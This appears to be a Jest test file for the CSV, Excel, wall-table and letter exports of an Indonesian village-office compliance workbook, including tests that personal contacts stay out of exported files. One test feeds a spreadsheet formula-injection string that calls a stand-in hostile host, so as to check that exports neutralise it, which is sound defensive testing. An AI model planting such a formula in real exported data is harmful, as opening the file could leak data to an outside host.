// Checks the files that leave the workbook: CSV, Excel and the table for the wall, with the figures of Ringkasan.
import type { Office } from 'local-office';
import papa from 'papaparse';
import readXlsxFile from 'read-excel-file/node';
import { callRpc, kasimanUnits, shownFigures } from '../kasiman';
import { februaryOffice } from '../letters/letter-office';
import { reportOf } from '../office-actions';
import { shownStates, typeIn, typeOver } from '../sheet-cells';

jest.setTimeout(240_000);

const february = { from: '2026-02', to: '2026-02' } as const;
function parsed(text: string, delimiter: string): string[][] {
  return papa.parse<string[]>(text.replace(/^\ufeff/u, ''), { delimiter, skipEmptyLines: true }).data;
}
/** The XLSX file as another program reads it. */
function opened(office: Office, span = february) {
  return readXlsxFile(
    Buffer.from(callRpc(office, 'makeExport', { ...span, format: 'xlsx' }).content.data, 'base64'),
  );
}
/** Dates as text; the reader gives them to the millisecond, which a fraction of a day is not. */
function plain(value: unknown): unknown {
  return value instanceof Date
    ? new Date(Math.round(value.getTime() / 1000) * 1000)
        .toISOString()
        .replace(/(?:T00:00:00)?\.000Z$/u, '')
        .replace('T', ' ')
    : value;
}
/** The rows of the first sheet below its header, by header. */
function recordsOf([sheet]: Awaited<ReturnType<typeof opened>>) {
  return byHeader(sheet?.data ?? []);
}
function byHeader<Value>([headers = [], ...rows]: readonly (readonly Value[])[]) {
  return rows.map((row) => Object.fromEntries(headers.map((header, index) => [String(header), row[index]])));
}
/** February's CSV, row by row. */
function csvOf(office: Office, format: 'csv-comma' | 'csv-semicolon'): string[][] {
  const { content } = callRpc(office, 'makeExport', { ...february, format });
  return parsed(content.data, format === 'csv-comma' ? ',' : ';');
}

const headers = [
  'kode_kantor',
  'nama_kantor',
  'kode_wilayah',
  'nama_wilayah',
  'jenis_wilayah',
  'kunci_kewajiban',
  'kewajiban',
  'kunci_periode',
  'periode',
  'periode_mulai',
  'periode_selesai',
  'tenggat',
  'kunci_status',
  'status',
  'wajib_lapor',
  'jumlah_minimal',
  'jumlah_diterima',
  'jumlah_masuk',
  'terpenuhi',
  'diterima_pada',
  'tepat_waktu',
  'hari_terlambat',
  'tenggat_lewat',
  'hasil_kunjungan',
  'alasan_dispensasi',
  'tanggal_rencana',
];

/** One of ten desa was visited, and the report was not as told. */
const februaryVisits = {
  kode_kantor: '35.22.20',
  nama_kantor: 'Kasiman',
  kunci_bulan: '2026-02',
  bulan: 'Februari 2026',
  rentang_mulai: '2025-12-01',
  rentang_selesai: '2026-02-28',
  wilayah_aktif: 10,
  wilayah_dikunjungi: 1,
  cakupan: '10,0 %',
  laporan_sesuai: 0,
  laporan_tidak_sesuai: 1,
  laporan_tidak_dapat_diperiksa: 0,
  kesesuaian: '0,0 %',
  temuan: '100,0 %',
};

describe('F36: CSV and Excel files', () => {
  test.each([
    { format: 'csv-semicolon', delimiter: ';' },
    { format: 'csv-comma', delimiter: ',' },
  ] as const)('$format holds a row per desa with its code as it is', ({ format, delimiter }) => {
    const office = februaryOffice();
    const file = callRpc(office, 'makeExport', { ...february, format });
    expect(file.fileName).toBe('kepatuhan-35.22.20-2026-02-sd-2026-02.csv');
    expect(file.content.data.startsWith('\ufeffkode_kantor')).toBe(true);
    expect(file.content.data.split('\r\n')).toHaveLength(12);
    const rows = parsed(file.content.data, delimiter);
    expect(rows[0]).toEqual(headers);
    const records = byHeader(rows);
    expect(records.map(({ kode_wilayah: code }) => code)).toEqual(kasimanUnits.map(({ code }) => code));
    expect(records.find(({ nama_wilayah: name }) => name === 'Ngaglik')).toMatchObject({
      kode_kantor: '35.22.20',
      kode_wilayah: '35.22.20.2007',
      kunci_periode: '2026-02',
      tenggat: '2026-03-05',
      kunci_status: 'late',
      status: 'Terlambat',
      diterima_pada: '2026-03-07 10:00:00',
      hari_terlambat: '2',
    });
  });

  test('the rows add up to the figures of Ringkasan', () => {
    const office = februaryOffice();
    const owing = byHeader(csvOf(office, 'csv-comma')).filter(({ wajib_lapor: owes }) => owes === '1');
    const count = (header: string, value: string): number =>
      owing.filter((record) => record[header] === value).length;
    const shown = shownFigures(office, 'Kerja Bakti', 'Feb 2026');
    expect(shown['✔ Tepat waktu']).toBe(`✔ ${count('tepat_waktu', 'ya')}`);
    expect(shown['◷ Terlambat']).toBe(`◷ ${count('tepat_waktu', 'tidak')}`);
    expect(shown['⚠ Temuan']).toBe(`⚠ ${count('hasil_kunjungan', 'tidak sesuai')} dari 1`);
    expect(shown['Sudah lapor']).toBe(`${count('terpenuhi', 'ya')} dari 9`);
  });

  test('another program opens the Excel file: codes are texts with their dots, days are days, counts are numbers', async () => {
    const office = februaryOffice();
    const sheets = await opened(office);
    expect(sheets.map(({ sheet }) => sheet)).toEqual(['Kepatuhan', 'Kunjungan']);
    const records = recordsOf(sheets);
    expect(sheets[0]?.data[0]).toEqual(headers);
    expect(records.map(({ kode_wilayah: code }) => code)).toEqual(kasimanUnits.map(({ code }) => code));
    expect(records[0]).toMatchObject({ kode_kantor: '35.22.20', kode_wilayah: '35.22.20.2001' });
    const ngaglik = records.find(({ nama_wilayah: name }) => name === 'Ngaglik');
    const times = [ngaglik?.tenggat, ngaglik?.diterima_pada];
    expect(times.every((value) => value instanceof Date)).toBe(true);
    expect(times.map(plain)).toEqual(['2026-03-05', '2026-03-07 10:00:00']);
    expect(ngaglik).toMatchObject({
      kunci_periode: '2026-02',
      wajib_lapor: 1,
      hari_terlambat: 2,
      terpenuhi: 'ya',
      tanggal_rencana: null,
    });
  });

  test('Excel and CSV say the same, cell by cell', async () => {
    const office = februaryOffice();
    const [sheet] = await opened(office);
    expect(sheet?.data.map((row) => row.map((value) => String(plain(value) ?? '')))).toEqual(
      csvOf(office, 'csv-semicolon'),
    );
  });

  test('F17: coverage and agreement stand on a sheet of their own, and in a CSV file of their own', async () => {
    const office = februaryOffice();
    const [, sheet] = await opened(office);
    expect(byHeader(sheet?.data.map((row) => row.map(plain)) ?? [])).toEqual([februaryVisits]);
    const { visits, message } = callRpc(office, 'makeExport', { ...february, format: 'csv-semicolon' });
    expect(visits?.fileName).toBe('kunjungan-35.22.20-2026-02-sd-2026-02.csv');
    const texts = Object.entries(februaryVisits).map(([header, value]) => [header, String(value)]);
    expect(byHeader(parsed(visits?.text ?? '', ';'))).toEqual([Object.fromEntries(texts)]);
    expect(message).toBe(
      '10 baris: satu baris per desa, kewajiban, dan periode. Kunjungan: 1 baris, satu per bulan.',
    );
  });

  test('an office that never visited gets its file as before', async () => {
    const office = februaryOffice();
    typeIn(office, 'Kunjungan', 'Tembeling', 'Hasil', 'dibatalkan');
    expect((await opened(office)).map(({ sheet }) => sheet)).toEqual(['Kepatuhan']);
    expect(callRpc(office, 'makeExport', { ...february, format: 'csv-comma' }).visits).toBeNull();
  });

  test.each(['=IMPORTXML("http://jahat.example";"//a")', '@kades', 'a;b,"c"', '007', '11.10'])(
    'a reason such as %s reaches Excel as that text, and CSV as text that does not run',
    async (reason) => {
      const office = februaryOffice();
      const typed = /^[=+\-@\d]/u.test(reason) ? `'${reason}` : reason;
      typeIn(office, 'Dispensasi', 'Besah', 'Alasan', typed);
      const besah = recordsOf(await opened(office)).find(({ nama_wilayah: name }) => name === 'Besah');
      expect(besah?.alasan_dispensasi).toBe(reason);
      for (const format of ['csv-comma', 'csv-semicolon'] as const) {
        const rows = csvOf(office, format);
        const said = byHeader(rows).find(({ nama_wilayah: name }) => name === 'Besah')?.alasan_dispensasi;
        expect(said).toBe(/^[=+\-@]/u.test(reason) ? `'${reason}` : reason);
        expect(rows.every((row) => row.length === headers.length)).toBe(true);
      }
    },
  );

  test('months turned around are refused with what to do', () => {
    expect(() =>
      callRpc(februaryOffice(), 'makeExport', { from: '2026-03', to: '2026-02', format: 'xlsx' }),
    ).toThrow('Tukar keduanya');
  });
});

describe('F36: what every file and the table for the wall have in common', () => {
  test('no contact and no identity number is in any file or letter, whatever reports and tabs hold', async () => {
    const office = februaryOffice();
    const numbers = [
      '3522200101900001',
      '3522 2001 0190 0002',
      '352220 010190 0003',
      '0812 9999 8888',
      '+62812-9999-7777',
    ];
    const secret = `hubungi ${numbers.join(' / ')}, sekdes.rahasia@desa.example`;
    typeOver(office, 'Kontak', 'Batokan', {
      Surel: 'sekdes.rahasia@desa.example',
      WhatsApp: '0812 9999 8888',
    });
    typeIn(office, 'Dispensasi', 'Besah', 'Alasan', `Banjir, ${secret}`);
    typeIn(office, 'Kunjungan', 'Tembeling', 'Catatan', `lokasi kosong, ${secret}`);
    const story = `Tempat: ${secret}\nHasil: ${secret}\nKendala: ${secret}`;
    office.submitForm(
      'Laporan Kerja Bakti',
      reportOf('Sidomukti', '2026-02-20', {
        'Jumlah warga yang hadir': '12',
        'Tempat, perangkat yang hadir, hasil, dan kendala': story,
      }),
    );
    const { draft } = callRpc(office, 'proposeLetter', { kind: 'monthly-report', month: '2026-02' });
    const leaving = {
      csv: callRpc(office, 'makeExport', { ...february, format: 'csv-comma' }).content.data,
      excel: JSON.stringify(await opened(office)),
      wall: callRpc(office, 'previewWallTable', { month: '2026-02' }).html,
      letter: callRpc(office, 'previewLetter', draft).html,
    };
    for (const [name, text] of Object.entries(leaving)) {
      expect([name, text.match(/rahasia|9999|0190 ?000|\d{16}/gu)]).toEqual([name, null]);
      expect(text).toMatch(/anjir, hubungi/u);
    }
    expect(leaving.letter).toMatch(/lokasi kosong, hubungi/u);
  });

  test('the table for the wall says what Kepatuhan says, in words and signs', () => {
    const office = februaryOffice();
    const { html } = callRpc(office, 'previewWallTable', { month: '2026-02' });
    const cells = [...html.matchAll(/<td style="[^"]*">([^<]*)<\/td>/gu)].map(([, text]) => text);
    expect(cells).toEqual(Object.values(shownStates(office)));
    expect(html).toContain('8 dari 9 (88,9 %)');
    expect(
      Buffer.from(callRpc(office, 'printWallTable', { month: '2026-02' }).base64, 'base64').toString(
        'latin1',
      ),
    ).toMatch(/^%PDF-/u);
  });
});
